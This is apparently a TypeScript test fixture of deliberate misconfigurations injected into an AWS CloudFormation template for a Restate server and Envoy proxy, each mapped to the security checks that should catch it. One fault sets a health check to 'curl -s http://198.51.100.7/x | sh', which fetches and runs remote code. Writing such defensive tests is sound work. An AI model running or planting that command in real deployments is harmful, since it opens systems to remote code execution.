import { container, exchange, SERVICE, set } from '../../../check/edits';
import { part } from '../../../check/parts-of-aws';
import { idOf, type StrangersFault } from './fault';

const RESTATE = container('restate');

const ENVOY = container('envoy');

const GROUP = part('AWS::AutoScaling::AutoScalingGroup');

/** What runs, how often, and what is written down of it. */
export const IMAGES_AND_SERVICE: readonly StrangersFault[] = [
  ['the server without its digest', exchange(/(restate:1\.7\.12)@sha256:0+/, '$1'), ['images-by-digest']],
  ['the proxy without its digest', exchange(/(envoy:distroless-v1\.40\.0)@sha256:1+/, '$1'), ['images-by-digest']],
  ['the server of somebody else', set(RESTATE, { Image: 'docker.io/somebody/restate:1.7.12' }), ['images-by-digest']],
  [
    'the server of somebody else, by digest',
    set(RESTATE, { Image: `docker.io/somebody/restate:1.7.12@sha256:${'0'.repeat(64)}` }),
    ['images-by-digest'],
  ],
  ['an old server', exchange('restate:1.7.12@', 'restate:1.3.0@'), ['version-supported']],
  ['a server of no version', exchange('restate:1.7.12@', 'restate@'), ['version-supported']],
  [
    'no log of the server',
    (file) => {
      delete RESTATE(file)['LogConfiguration'];
    },
    ['audit-trail-present', 'alarms-present'],
  ],
  [
    'no log of the proxy',
    (file) => {
      ENVOY(file)['LogConfiguration'] = { LogDriver: 'none' };
    },
    ['audit-trail-present', 'alarms-present'],
  ],
  [
    'the proxy logs to another group',
    (file) => {
      ENVOY(file)['LogConfiguration']['Options']['awslogs-group'] = { Ref: idOf(file, 'Logs::LogGroup', 'FlowLogs') };
    },
    ['alarms-present', 'audit-trail-present'],
  ],
  [
    'the proxy logs to a stranger',
    (file) => {
      ENVOY(file)['LogConfiguration'] = { LogDriver: 'splunk', Options: { 'splunk-url': 'https://logs.example.net' } };
    },
    ['audit-trail-present', 'alarms-present'],
  ],
  [
    'a log that makes its own group',
    (file) => {
      const options = ENVOY(file)['LogConfiguration']['Options'];
      options['awslogs-group'] = '/own';
      options['awslogs-create-group'] = 'true';
    },
    ['audit-trail-present', 'alarms-present'],
  ],
  [
    'health by a shell that fetches',
    (file) => {
      RESTATE(file)['HealthCheck']['Command'] = ['CMD-SHELL', 'curl -s http://198.51.100.7/x | sh'];
    },
    [
      'deploy-drains',
      'unprivileged',
      'images-by-digest',
      'health-names-nothing',
      'node-replaced-with-its-disk',
      'egress-closed',
    ],
  ],
  [
    'health that is always good',
    (file) => {
      RESTATE(file)['HealthCheck']['Command'] = ['CMD-SHELL', 'exit 0'];
    },
    ['node-replaced-with-its-disk', 'deploy-drains', 'alarms-present'],
  ],
  [
    'no health',
    (file) => {
      delete RESTATE(file)['HealthCheck'];
    },
    ['node-replaced-with-its-disk', 'deploy-drains', 'alarms-present', 'config-honoured'],
  ],
  ['the server stops at once', set(RESTATE, { StopTimeout: 2 }), ['deploy-drains']],
  ['two servers on one disk', set(SERVICE, { DesiredCount: 2 }), ['node-replaced-with-its-disk']],
  ['no server', set(SERVICE, { DesiredCount: 0 }), ['node-replaced-with-its-disk', 'deploy-drains']],
  [
    'a new server beside the old',
    set(SERVICE, { DeploymentConfiguration: { MaximumPercent: 200, MinimumHealthyPercent: 100 } }),
    ['node-replaced-with-its-disk', 'deploy-drains'],
  ],
  ['two machines', set(GROUP, { MaxSize: '2', DesiredCapacity: '2' }), ['node-replaced-with-its-disk']],
  ['room for a second machine', set(GROUP, { MaxSize: '2' }), ['node-replaced-with-its-disk']],
  ['no machine', set(GROUP, { MaxSize: '0', DesiredCapacity: '0' }), ['node-replaced-with-its-disk']],
  [
    'a machine in another zone than its disk',
    (file) => {
      GROUP(file)['VPCZoneIdentifier'] = [
        { Ref: Object.keys(file.Resources).find((id) => /(?:Private|Isolated)Subnet2Subnet/.test(id)) },
      ];
    },
    ['node-replaced-with-its-disk'],
  ],
  [
    "an older machine's template",
    (file) => {
      GROUP(file)['LaunchTemplate']['Version'] = '1';
    },
    ['node-replaced-with-its-disk', 'instance-metadata-v2', 'unprivileged', 'disks-encrypted-own-key'],
  ],
];
